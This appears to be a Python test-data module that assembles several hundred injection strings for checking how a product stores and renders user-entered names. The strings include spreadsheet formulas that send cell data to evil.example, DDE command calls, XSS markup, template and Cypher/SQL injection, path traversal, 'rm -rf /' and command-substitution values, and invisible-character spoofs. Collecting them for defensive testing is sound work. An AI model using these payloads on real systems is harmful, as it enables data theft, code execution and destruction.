"""Texts that would do harm where a text is taken for something else: formula, markup, template, query, control character.

``TEXTS`` has more than five hundred, each once. None is longer than a name may be; those that must be refused stand in ``REFUSED``.
"""

from __future__ import annotations

import re
import unicodedata

EVIL = "evil.example"
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "　=", "'=", "''+", "\u200b=", "\ufeff=", "|", "%", "-+-", "+-")
_BODIES = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", f'HYPERLINK("http://{EVIL}/?x="&A1,"甲")', f'WEBSERVICE("http://{EVIL}/")', "DDE(\"cmd\";\"/C calc\";\"x\")",
    f'IMPORTXML("http://{EVIL}/","//a")', f'IMAGE("http://{EVIL}/p.png")', "2024-01-01", "'!A1", "A1", "(1)", "\"\"",
)
_MARKUP = (
    "<script>alert(1)</script>", f"<script src=http://{EVIL}/x.js></script>", "<img src=x onerror=alert(1)>", f"<img src=http://{EVIL}/p.png>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", f"<iframe src=http://{EVIL}/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>甲</a>", "<a href='data:text/html,<script>alert(1)</script>'>甲</a>", f"<base href=http://{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>", f"<link rel=stylesheet href=http://{EVIL}/x.css>", "<style>*{display:none}</style>",
    f"<style>@import 'http://{EVIL}/x.css'</style>", f"<div style=\"background:url(http://{EVIL}/p.png)\">甲</div>", f"<object data=http://{EVIL}/></object>",
    f"<form action=http://{EVIL}/><button>甲</button></form>", "<math><mi xlink:href=javascript:alert(1)>甲</mi></math>", "<marquee onstart=alert(1)>甲</marquee>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--<img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><x>", f"<!DOCTYPE x SYSTEM 'http://{EVIL}/'>",
    "<b>粗</b>", "<", ">", "&", "&lt;b&gt;", "&#60;img src=x onerror=alert&#40;1)&#62;", "&amp;amp;", "\"", "'", "`",
)
_OUT_OF = ("", "\">", "'>", "</title>", "</script>", "</style></head>", "</textarea>", "-->", "]]>", "\" onmouseover=\"alert(1)\" x=\"", "' onfocus='alert(1)")
_MARKDOWN = (
    "[甲](javascript:alert(1))", f"![甲](http://{EVIL}/p.png)", f"[甲](http://{EVIL}/)", f"<http://{EVIL}/>", f"http://{EVIL}/auto", f"www.{EVIL}", "**粗**", "# 大",
    "* 条", "1. 条", "> 引", "| a | b |", "---", "```\nalert(1)\n```", "`x`", "~~删~~", "- [ ] 办", ":red[红]", ":material/home:", ":smile:", "$x^2$",
    "$\\href{javascript:alert(1)}{甲}$", "\\(x\\)", "[^1]", "[x]: javascript:alert(1)", ":blue-background[甲]",
)
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{7*7}", "{0.__class__}", "{name}", "{", "}", "{{", "{}", "%s", "%n%n%n", "%(name)s", "%d", "$name", "${name}",
    "{{constructor.constructor('alert(1)')()}}", "{% include '/etc/passwd' %}", "#set($x=7*7)$x", "[red]红[/red]", "[/]", f"[link=http://{EVIL}/]甲[/link]",
    "*{7*7}", "@{7*7}", "__proto__", "constructor", "toString", "hasOwnProperty", "undefined", "null", "None", "NaN", "NA", "true", "False", "0", "-0", "1e9", "Infinity",
)
_QUERIES = (
    "'; DETACH DELETE n; //", "' OR 1=1 --", "\") RETURN n //", "`}) DETACH DELETE n //", "'; DROP TABLE nodes; --", "\" OR \"\"=\"", "') OR 1=1 --", "1; DELETE FROM nodes",
    "MATCH (n) DETACH DELETE n", "CALL dbms.shutdown()", "LOAD CSV FROM 'http://evil.example/' AS x", "$id", ".*", "%", "_", "*", "?", "(", ")", "[", "a OR b", "NEAR(甲 乙)",
    "name:*", "^甲", "甲\"*", "AND", "NOT 甲", "\\", "\\u0027", "'", "\"", "/*", "*/", "--", "//", ";", "甲;乙", "甲|乙",
)
_BREAKERS = (
    "甲\",\"乙", "甲,乙", "甲;乙", "甲\t乙", "甲\n乙", "甲\r\n乙", "甲\u2028乙", "甲\u2029乙", "\"}],\"x\":[{\"", "\\n", "\\r\\n", "\\\"",
    f"甲\nATTENDEE:mailto:x@{EVIL}", f"甲\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:乙\r\nATTACH:http://{EVIL}/", "甲\\nDTSTART:20200101", "../../../etc/passwd",
    "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con", "con", "file:///etc/passwd", f"\\\\{EVIL}\\share", "&x; rm -rf /", "$(touch /tmp/x)", "`touch /tmp/x`", "| touch /tmp/x",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", f"//{EVIL}/x.js", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)",
    "\\u003cscript\\u003ealert(1)", "＜script＞alert(1)＜/script＞", "ﷺ" * 20, "a\u0301" * 60, "甲" + "\u0310\u0311\u0312" * 40, "👨‍👩‍👧‍👦" * 10, "甲" * 180, "W" * 180,
)
_UNSEEN = (
    "甲\u202e乙\u202c丙", "\u2066甲\u2069", "甲\u200b乙", "甲\u200d乙", "\ufeff甲乙", "甲\u00ad乙", "\u200f甲", "甲\u2060乙", "<scr\u200bipt>alert(1)</scr\u200bipt>", "\u202egpj.exe",
)
# what a cell may not hold at all (F25), and what is too long (F24)
REFUSED = {
    "F25": ("甲\x00乙", "\x00", "甲\x1b[31m乙", "甲\x07", "甲\x08乙", "甲\x7f乙", "甲\x0b乙", "甲\x0c乙", "甲\ufffe乙", "甲\x9b31m", "=1+1\x00"),
    "F24": ("长" * 201, "<b>" * 100, "=" * 300, "http://evil.example/" + "a" * 300),
}
TEXTS = tuple(
    dict.fromkeys(
        [
            *(start + body for start in _STARTS for body in _BODIES),
            *(way + markup for way in _OUT_OF for markup in _MARKUP[:23]),
            *_MARKUP, *_MARKDOWN, *_TEMPLATES, *_QUERIES, *_BREAKERS, *_UNSEEN,
        ]
    )
)

_UNSEEN_CHARACTERS = re.compile("[\u00ad\u061c\u180e\u200b\u200c\u200e\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff]")
_GUARDED = re.compile("'+[\\s\u200b\ufeff]*[=+\\-@＝＋－＠|%]")


def kept(text: str) -> str:
    """The text as it must stand in the store: nothing is lost but what nobody can see, the blanks around it, and the apostrophe of a guarded cell.

    Written down a second time here, so that the tests do not ask the product what it ought to have done.
    """
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    text = text[1:] if _GUARDED.match(text) else text
    text = _UNSEEN_CHARACTERS.sub("", text.strip("\u3000 \t\n\u00a0"))
    if not re.search("[\U0001f000-\U0001faff]", text):
        text = text.replace("\u200d", "")
    return unicodedata.normalize("NFC", text).strip()
